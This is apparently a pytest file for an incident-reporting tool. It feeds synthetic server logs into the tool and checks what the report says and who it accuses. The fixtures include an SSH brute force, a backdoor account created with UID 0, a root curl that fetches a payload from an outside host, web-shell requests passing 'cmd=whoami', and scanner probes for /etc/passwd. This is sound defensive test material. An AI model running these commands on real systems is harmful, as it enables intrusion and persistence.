"""Incidents of a few lines of text logs: what they must be told as, and what must accuse nobody."""

from __future__ import annotations

from collections.abc import Callable, Iterable
from pathlib import Path

import pytest

from .conftest import Told
from .making import Scenario, make_truth

pytestmark = pytest.mark.timeout(300)
Tell = Callable[[Scenario], Told]


def lines(name: str, text: Iterable[str]) -> Scenario:
    """A scenario of one text log. Its score is not looked at."""
    kept = list(text)

    def write(folder: Path) -> None:
        (folder / "server.log").write_text("\n".join(kept) + "\n")

    facts = (("any", 1, ("2026",)),)
    truth = make_truth(name, facts, "any", "T1078", "", ("2026-02-11T00:00:00Z", "2026-02-11T23:00:00Z"), ())
    return Scenario(name, write, truth)


def told_story(told: Told) -> str:
    """What the report tells, in order."""
    return "\n".join(
        c["text"] for s in told.report["report"]["sections"] if s["id"] == "what-happened" for c in s["claims"]
    )


def sudo(clock: str, user: str, command: str) -> str:
    """A line of sudo with a year."""
    return (
        f"2026-02-11T{clock}+00:00 gate01 sudo:   {user} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND={command}"
    )


def test_what_an_account_does_that_the_intruder_made_is_told(tell: Tell) -> None:
    failed = [
        f"2026-02-11T05:10:{n:02d}+00:00 gate01 sshd[{900 + n}]: Failed password for root from 203.0.113.90 port {40000 + n} ssh2"
        for n in range(30)
    ]
    story = told_story(
        tell(
            lines(
                "made",
                [
                    *failed,
                    "2026-02-11T05:11:00+00:00 gate01 sshd[990]: Accepted password for store from 203.0.113.90 port 41000 ssh2",
                    sudo("05:11:20", "store", "/bin/bash"),
                    "2026-02-11T05:11:30+00:00 gate01 useradd[995]: new user: name=cachd, UID=0, GID=0, home=/home/cachd, shell=/bin/bash",
                    sudo("05:12:10", "cachd", "/usr/bin/curl -o /tmp/.k/kw http://203.0.113.91/kw"),
                ],
            )
        )
    )
    assert "The account cachd was created on gate01" in story
    assert "cachd on gate01 ran as root: “/usr/bin/curl -o /tmp/.k/kw http://203.0.113.91/kw”" in story


def test_a_tool_that_becomes_root_for_each_task_is_accused_of_nothing(tell: Tell) -> None:
    tasks = [
        line
        for n in range(20)
        for line in (
            f"2026-02-11T09:00:{2 * n:02d}+00:00 gate01 sshd[{700 + n}]: Accepted publickey for roll from 10.1.0.5 port {50000 + n} ssh2",
            sudo(
                f"09:00:{2 * n + 1:02d}",
                "roll",
                f"/bin/sh -c echo SUCCESS-{n} ; /usr/bin/python3 /home/roll/.tmp/task_{n}.py",
            ),
        )
    ]
    with pytest.raises(AssertionError, match="nothing was found"):
        tell(lines("roll-out", tasks))


W3C = "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) sc-status"


def test_commands_handed_to_a_page_are_told_as_requests_with_their_sender(tell: Tell) -> None:
    quiet = [
        f"2026-02-11 08:{n:02d}:00 10.0.0.5 GET /portal/start.aspx - 443 - 10.2.0.{n + 2} Mozilla/5.0 200"
        for n in range(40)
    ]
    calls = [
        f"2026-02-11 08:20:{n:02d} 10.0.0.5 POST /files/thumb.aspx cmd=whoami 443 - 203.0.113.50 python-requests/2.25.1 200"
        for n in range(5)
    ]
    told = tell(lines("page", [W3C, *quiet, *calls]))
    assert "203.0.113.50 requested by POST /files/thumb.aspx?cmd=whoami" in told_story(told)
    assert [i["value"] for i in told.report["indicators"]] == ["203.0.113.50"]


def test_refused_requests_and_a_scanner_of_ours_are_no_activity(tell: Tell) -> None:
    tried = [
        f"2026-02-11 02:{n:02d}:00 10.0.0.5 GET {path} - 443 - 10.9.9.9 Nessus+SOAP {status}"
        for n, (path, status) in enumerate(
            [("/.git/config", 404), ("/../../etc/passwd", 400), ("/x.aspx?cmd=whoami", 200)] * 10
        )
    ]
    with pytest.raises(AssertionError, match="nothing was found"):
        tell(lines("scanner", [W3C, *tried]))
